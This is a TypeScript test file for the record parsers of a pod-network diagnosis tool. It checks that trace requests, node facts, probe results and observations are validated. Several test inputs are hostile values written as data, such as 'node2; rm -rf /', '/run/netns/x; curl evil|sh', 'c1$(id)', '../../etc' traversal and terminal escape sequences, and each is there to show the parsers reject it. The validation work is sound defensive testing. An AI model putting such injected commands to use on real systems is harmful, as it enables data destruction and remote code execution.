import { describe, expect, test } from "bun:test";
import { escapeControlsDeep } from "./diagnosis-checker.ts";
import type { DiagnosisRequest, NodeFacts, NodeObservation } from "./diagnosis-protocol.ts";
import { DIAGNOSIS_ANSWERS_PREFIX, DIAGNOSIS_REQUESTS_PREFIX, diagnosisKey } from "./diagnosis-protocol.ts";
import {
  InvalidDiagnosisRecordError,
  parseArmedReport,
  parseDiagnosisKey,
  parseDiagnosisRequest,
  parseNodeFacts,
  parseNodeObservation,
  parseProbeResult,
} from "./diagnosis-records.ts";

const ID = "abcd1234efgh";
const KEY = diagnosisKey(ID, "request");

const trace: DiagnosisRequest = {
  id: ID,
  kind: "trace",
  createdAt: "2026-12-06T10:00:00.000Z",
  requester: "podnet trace on host pid 1",
  nodes: ["node1", "node2"],
  addresses: ["10.244.1.2", "10.244.2.2"],
  routeLookups: [{ dst: "10.244.2.2", from: "10.244.1.2", iif: "podnet0" }],
  trace: {
    proto: "tcp",
    source: { kind: "pod", node: "node1", namespace: "default", name: "node1-a" },
    destination: { ip: "10.244.2.2", port: 8080 },
    sourcePort: 41000,
    match: { pairs: [["10.244.1.2", "10.244.2.2"]], ports: [41000, 8080] },
    vxlanPeers: ["198.51.100.13"],
    probeTimeoutMs: 2000,
  },
};

/** The request with one field replaced (by a path of property names/indexes). */
function mutate(path: (string | number)[], value: unknown): string {
  const copy = JSON.parse(JSON.stringify(trace));
  let at = copy;
  for (const p of path.slice(0, -1)) at = at[p];
  const last = path[path.length - 1] as string | number;
  if (value === undefined) delete at[last];
  else at[last] = value;
  return JSON.stringify(copy);
}

function rejects(text: string, field: string, reason?: RegExp): void {
  let caught: unknown;
  try {
    parseDiagnosisRequest(KEY, text);
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(InvalidDiagnosisRecordError);
  const e = caught as InvalidDiagnosisRecordError;
  expect(e.key).toBe(KEY);
  expect(e.field).toBe(field);
  expect(e.message).toContain(KEY);
  if (reason !== undefined) expect(e.reason).toMatch(reason);
}

describe("parseDiagnosisKey", () => {
  test("names the part, the id and the node", () => {
    expect(parseDiagnosisKey(diagnosisKey(ID, "request"))).toEqual({ id: ID, part: "request" });
    expect(parseDiagnosisKey(diagnosisKey(ID, "go"))).toEqual({ id: ID, part: "go" });
    expect(parseDiagnosisKey(diagnosisKey(ID, "facts", "node2"))).toEqual({
      id: ID,
      part: "facts",
      node: "node2",
    });
    expect(parseDiagnosisKey(diagnosisKey(ID, "observed", "node1"))).toEqual({
      id: ID,
      part: "observed",
      node: "node1",
    });
  });
  test("refuses other keys", () => {
    expect(parseDiagnosisKey("/podnet/nodes/node1")).toBeUndefined();
    expect(parseDiagnosisKey(diagnosisKey("BAD-ID", "request"))).toBeUndefined();
    expect(parseDiagnosisKey(`/podnet/diagnosis/answers/${ID}/facts`)).toBeUndefined();
    expect(parseDiagnosisKey(diagnosisKey(ID, "facts", "Node_1"))).toBeUndefined();
    expect(parseDiagnosisKey(`/podnet/diagnosis/answers/${ID}/other/node1`)).toBeUndefined();
    // Signals live under requests/, answers under answers/, never the other way round.
    expect(parseDiagnosisKey(`/podnet/diagnosis/answers/${ID}/probe`)).toBeUndefined();
    expect(parseDiagnosisKey(`/podnet/diagnosis/requests/${ID}/facts/node1`)).toBeUndefined();
    expect(parseDiagnosisKey(`/podnet/diagnosis/${ID}/request`)).toBeUndefined();
  });
  test("requests and answers sit under separate prefixes (agents watch only requests)", () => {
    for (const part of ["request", "go", "probe"] as const)
      expect(diagnosisKey(ID, part).startsWith(DIAGNOSIS_REQUESTS_PREFIX)).toBe(true);
    for (const part of ["facts", "armed", "observed"] as const)
      expect(diagnosisKey(ID, part, "node1").startsWith(DIAGNOSIS_ANSWERS_PREFIX)).toBe(true);
    expect(diagnosisKey(ID, "facts", "node1")).toBe(`/podnet/diagnosis/answers/${ID}/facts/node1`);
  });
});

describe("parseDiagnosisRequest", () => {
  test("accepts a trace request and puts addresses in canonical form", () => {
    expect(parseDiagnosisRequest(KEY, JSON.stringify(trace))).toEqual(trace);
    const v6 = mutate(["addresses"], ["2001:DB8:0:0::1"]);
    expect(parseDiagnosisRequest(KEY, v6).addresses).toEqual(["2001:db8::1"]);
  });

  test("accepts a facts request without trace", () => {
    const facts = { ...trace, kind: "facts", trace: undefined, nodes: [] };
    expect(parseDiagnosisRequest(KEY, JSON.stringify(facts)).trace).toBeUndefined();
  });

  test("refuses what is not JSON or not an object", () => {
    rejects("{", "record", /not JSON/);
    rejects("[]", "record", /object/);
  });

  test("refuses bad ids, also one that differs from the key's", () => {
    rejects(mutate(["id"], "UPPER123"), "id");
    rejects(mutate(["id"], "abc"), "id");
    rejects(mutate(["id"], "zzzz9999"), "id", /key names/);
  });

  test("refuses bad node names and kinds", () => {
    rejects(mutate(["kind"], "dump"), "kind");
    rejects(mutate(["nodes", 1], "node2; rm -rf /"), "nodes[1]");
    rejects(mutate(["trace", "source", "node"], "-x"), "trace.source.node");
  });

  test("refuses addresses that are not addresses", () => {
    rejects(mutate(["addresses", 0], "10.244.1.2 --help"), "addresses[0]");
    rejects(mutate(["addresses", 0], "010.1.1.1"), "addresses[0]");
    rejects(mutate(["routeLookups", 0, "dst"], "10.0.0.0/8"), "routeLookups[0].dst");
    rejects(mutate(["trace", "destination", "ip"], "example.com"), "trace.destination.ip");
    rejects(mutate(["trace", "match", "pairs", 0, 1], 7), "trace.match.pairs[0][1]");
    rejects(mutate(["trace", "vxlanPeers", 0], ""), "trace.vxlanPeers[0]");
    rejects(mutate(["trace", "source"], { kind: "external", ip: "x" }), "trace.source.ip");
  });

  test("refuses interface names that could be options or paths", () => {
    rejects(mutate(["routeLookups", 0, "iif"], "eth0 table 5"), "routeLookups[0].iif");
    rejects(mutate(["routeLookups", 0, "iif"], "averyveryverylongname"), "routeLookups[0].iif");
    rejects(mutate(["routeLookups", 0, "iif"], "../x"), "routeLookups[0].iif");
  });

  test("refuses ports out of range and bad protocols", () => {
    rejects(mutate(["trace", "destination", "port"], 0), "trace.destination.port");
    rejects(mutate(["trace", "destination", "port"], 65536), "trace.destination.port");
    rejects(mutate(["trace", "destination", "port"], undefined), "trace.destination.port", /tcp/);
    rejects(mutate(["trace", "sourcePort"], 1.5), "trace.sourcePort");
    rejects(mutate(["trace", "match", "ports", 0], "80"), "trace.match.ports[0]");
    rejects(mutate(["trace", "proto"], "sctp"), "trace.proto");
    rejects(mutate(["trace", "probeTimeoutMs"], 3_600_000), "trace.probeTimeoutMs");
  });

  test("bounds the counts", () => {
    const pair = ["10.0.0.1", "10.0.0.2"];
    rejects(mutate(["trace", "match", "pairs"], new Array(65).fill(pair)), "trace.match.pairs", /64/);
    rejects(mutate(["trace", "match", "ports"], new Array(17).fill(80)), "trace.match.ports", /16/);
    rejects(mutate(["addresses"], new Array(257).fill("10.0.0.1")), "addresses", /256/);
    rejects(mutate(["trace", "match", "pairs"], []), "trace.match.pairs", /at least one/);
  });

  test("refuses mixed-family pairs, a pod source with a bad name, trace on facts", () => {
    rejects(mutate(["trace", "match", "pairs", 0], ["10.0.0.1", "2001:db8::1"]), "trace.match.pairs[0]");
    rejects(mutate(["trace", "source", "namespace"], "Default"), "trace.source.namespace");
    rejects(mutate(["trace", "source", "name"], "a/b"), "trace.source.name");
    rejects(mutate(["kind"], "facts"), "trace", /absent/);
    rejects(mutate(["trace"], undefined), "trace", /must be given/);
  });
});

const facts: NodeFacts = {
  node: "node1",
  collectedAt: "2026-12-06T10:00:00.000Z",
  agent: { backend: "direct", uplink: "eth0", nodeIPs: ["192.0.2.11"], blocks: ["10.244.1.0/24"] },
  interfaces: [{ name: "podnet0", index: 3, kind: "bridge", mac: "aa", mtu: 1500, up: true, addresses: [] }],
  routes: [{ dst: "default", onlink: false, type: "unicast" }],
  neighbours: [],
  fdb: [],
  sysctls: { "net.ipv4.ip_forward": "1" },
  nft: { tables: ["ip podnet"], sets: [{ name: "s", elements: [{ key: ["1"] }] }], chains: [] },
  pods: [],
  allocations: [],
  releases: [],
  conntrack: [],
  routeLookups: [],
  errors: [],
};

describe("answers", () => {
  test("facts: accepted when the shape is right, refused with the field otherwise", () => {
    const key = diagnosisKey(ID, "facts", "node1");
    expect(parseNodeFacts(key, JSON.stringify(facts))).toEqual(facts);
    expect(() => parseNodeFacts(key, JSON.stringify({ ...facts, routes: {} }))).toThrow(
      /routes must be an array/,
    );
    expect(() => parseNodeFacts(key, JSON.stringify({ ...facts, sysctls: { a: 1 } }))).toThrow(
      /sysctls.a must be a string/,
    );
    expect(() => parseNodeFacts(diagnosisKey(ID, "facts", "node2"), JSON.stringify(facts))).toThrow(
      /key names "node2"/,
    );
  });

  test("facts with both proxy tables: the ip6 sets and chains keep their family tag", () => {
    const key = diagnosisKey(ID, "facts", "node1");
    const nft: NodeFacts["nft"] = {
      tables: ["ip podnet", "ip6 podnet"],
      sets: [
        { name: "cluster-ips", elements: [{ key: ["10.96.0.10"] }] },
        { name: "cluster-ips", family: "ip6", elements: [{ key: ["fd00:10:96::a"] }] },
      ],
      chains: [
        { name: "services", rules: ["ip daddr . meta l4proto . th dport vmap @service-ips"] },
        { name: "services", family: "ip6", rules: ["ip6 daddr . meta l4proto . th dport vmap @service-ips"] },
      ],
    };
    const parsed = parseNodeFacts(key, JSON.stringify({ ...facts, nft }));
    expect(parsed.nft).toEqual(nft);
    expect(parsed.nft.sets.map((x) => x.family)).toEqual([undefined, "ip6"]);
    const inet = { ...nft, sets: [{ name: "cluster-ips", family: "inet", elements: [] }] };
    expect(() => parseNodeFacts(key, JSON.stringify({ ...facts, nft: inet }))).toThrow(
      /nft\.sets\[0\]\.family/,
    );
    const chain = { ...nft, chains: [{ name: "services", family: 6, rules: [] }] };
    expect(() => parseNodeFacts(key, JSON.stringify({ ...facts, nft: chain }))).toThrow(
      /nft\.chains\[0\]\.family/,
    );
  });

  test("facts naming the live proxy tables: podnet-b read back; anything else refused, absent still read", () => {
    const key = diagnosisKey(ID, "facts", "node1");
    const nft: NodeFacts["nft"] = {
      tables: ["ip podnet", "ip podnet-b"],
      liveTables: ["ip podnet-b"],
      sets: [],
      chains: [],
    };
    expect(parseNodeFacts(key, JSON.stringify({ ...facts, nft })).nft.liveTables).toEqual(["ip podnet-b"]);
    for (const bad of ["ip podnet; flush ruleset", "inet podnet-trace-abcd1234", "ip6 other", 6])
      expect(() =>
        parseNodeFacts(key, JSON.stringify({ ...facts, nft: { ...nft, liveTables: [bad] } })),
      ).toThrow(/nft\.liveTables\[0\] must be one of/);
    expect(
      parseNodeFacts(key, JSON.stringify({ ...facts, nft: { tables: [], sets: [], chains: [] } })).nft
        .liveTables,
    ).toBeUndefined();
  });

  test("armed and probe", () => {
    const armed = { node: "node2", table: "inet podnet-trace-abcd1234efgh" };
    expect(parseArmedReport(diagnosisKey(ID, "armed", "node2"), JSON.stringify(armed))).toEqual(armed);
    expect(() => parseArmedReport(diagnosisKey(ID, "armed", "node2"), '{"node":"node2"}')).toThrow(/table/);
    const probe = {
      outcome: "answered",
      ms: 3,
      echo: { pod: "p", ip: "10.0.0.1", from: "10.0.0.2", fromPort: 5 },
    };
    expect(parseProbeResult(diagnosisKey(ID, "probe"), JSON.stringify(probe))).toEqual(probe as never);
    expect(() => parseProbeResult(diagnosisKey(ID, "probe"), '{"outcome":"maybe","ms":1}')).toThrow(
      /outcome/,
    );
  });

  test("observation", () => {
    const obs: NodeObservation = {
      node: "node1",
      events: [{ atMs: 1, traceId: "x", family: "inet", table: "t", chain: "c", type: "packet", raw: "…" }],
      conntrack: [
        {
          proto: "tcp",
          timeoutSeconds: 1,
          original: { src: "10.0.0.1", dst: "10.0.0.2" },
          reply: { src: "10.0.0.2", dst: "10.0.0.1" },
          flags: [],
        },
      ],
      counters: [{ chain: "observe", name: "vxlan-out 1.2.3.4", packets: 1, bytes: 2 }],
      sysctls: {},
      errors: [],
    };
    const key = diagnosisKey(ID, "observed", "node1");
    expect(parseNodeObservation(key, JSON.stringify(obs))).toEqual(obs);
    expect(() =>
      parseNodeObservation(
        key,
        JSON.stringify({ ...obs, counters: [{ chain: "c", name: "n", packets: "1" }] }),
      ),
    ).toThrow(/counters\[0\].packets must be a number/);
  });

  test("facts whose fields readers rely on are malformed are refused, naming the field (no reader crash)", () => {
    const key = diagnosisKey(ID, "facts", "node1");
    const pod = {
      network: "podnet",
      namespace: "default",
      name: "node1-a",
      containerId: "c0ffee",
      ifname: "eth0",
      netns: "/run/netns/cni-1234",
      ips: ["10.244.1.2"],
      recordedAt: "2026-12-06T10:00:00.000Z",
    };
    expect(parseNodeFacts(key, JSON.stringify({ ...facts, pods: [pod] })).pods).toHaveLength(1);
    const bad: [Partial<NodeFacts> | Record<string, unknown>, RegExp][] = [
      [
        { neighbours: [{ dev: "eth0", address: "192.0.2.1", state: "REACHABLE" }] },
        /neighbours\[0\]\.state must be an array/,
      ],
      [
        { fdb: [{ dev: "podnet-vx", mac: "02:00:00:00:00:01", flags: "self" }] },
        /fdb\[0\]\.flags must be an array/,
      ],
      [{ routes: [{ dst: "default", type: "unicast" }] }, /routes\[0\]\.onlink must be true or false/],
      [
        { routes: [{ dst: "default", dev: 7, onlink: false, type: "unicast" }] },
        /routes\[0\]\.dev must be a string/,
      ],
      [{ interfaces: [{ ...facts.interfaces[0], mac: 5 }] }, /interfaces\[0\]\.mac must be a string/],
      [{ interfaces: [{ ...facts.interfaces[0], up: "yes" }] }, /interfaces\[0\]\.up must be true or false/],
      [{ agent: { ...facts.agent, uplink: "eth0;reboot" } }, /agent\.uplink must be an interface name/],
      [
        { pods: [{ ...pod, netns: "/run/netns/x; curl evil|sh" }] },
        /pods\[0\]\.netns must be an absolute path/,
      ],
      [{ pods: [{ ...pod, netns: "/run/netns/../../etc" }] }, /pods\[0\]\.netns must not contain "\.\."/],
      [{ pods: [{ ...pod, hostVeth: "veth0 -x" }] }, /pods\[0\]\.hostVeth must be an interface name/],
      [{ pods: [{ ...pod, containerId: "c1$(id)" }] }, /pods\[0\]\.containerId must be a container id/],
      [{ pods: [{ ...pod, namespace: "\u001b]0;pwned\u0007" }] }, /pods\[0\]\.namespace/],
      [{ errors: ["nft: \u001b[2Jcleared"] }, /errors\[0\] contains the control character \\x1b/],
      [
        { interfaces: [{ ...facts.interfaces[0], alias: "a\u009bb" }] },
        /interfaces\[0\]\.alias contains the control character \\x9b/,
      ],
    ];
    for (const [patch, reason] of bad) {
      const text = JSON.stringify({ ...facts, ...patch });
      expect(() => parseNodeFacts(key, text)).toThrow(InvalidDiagnosisRecordError);
      expect(() => parseNodeFacts(key, text)).toThrow(reason);
    }
  });

  test("armed, probe and observation strings with control characters or bad names are refused", () => {
    expect(() =>
      parseArmedReport(
        diagnosisKey(ID, "armed", "node2"),
        JSON.stringify({ node: "node2", table: "inet x; rm" }),
      ),
    ).toThrow(/table must be inet podnet-trace-ID/);
    expect(() =>
      parseProbeResult(
        diagnosisKey(ID, "probe"),
        JSON.stringify({ outcome: "error", ms: 1, error: "\u001b[2J" }),
      ),
    ).toThrow(/error contains the control character/);
    const obs = {
      node: "node1",
      events: [
        {
          atMs: 1,
          traceId: "x",
          family: "inet",
          table: "t",
          chain: "c",
          type: "packet",
          iif: "eth0;x",
          raw: "r",
        },
      ],
      conntrack: [],
      counters: [],
      sysctls: {},
      errors: [],
    };
    expect(() => parseNodeObservation(diagnosisKey(ID, "observed", "node1"), JSON.stringify(obs))).toThrow(
      /events\[0\]\.iif must be an interface name/,
    );
  });

  test("what an agent writes after escaping controls reads back", () => {
    const escaped = escapeControlsDeep({ ...facts, errors: ["stderr:\nline two \u001b[0m"] });
    expect(escaped.errors).toEqual(["stderr:\\x0aline two \\x1b[0m"]);
    expect(parseNodeFacts(diagnosisKey(ID, "facts", "node1"), JSON.stringify(escaped)).errors).toEqual(
      escaped.errors,
    );
  });
});
